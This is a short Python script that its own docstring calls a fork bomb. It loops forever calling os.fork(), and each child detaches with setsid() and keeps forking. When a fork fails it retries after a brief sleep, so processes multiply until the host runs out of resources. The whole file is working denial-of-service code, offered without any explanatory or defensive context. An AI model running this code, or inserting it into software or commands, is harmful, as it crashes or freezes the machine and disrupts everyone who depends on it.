"""Forks for ever: a fork bomb with a little patience."""

import os
import time

while True:
    try:
        if os.fork() == 0:
            os.setsid()
    except OSError:
        time.sleep(0.001)
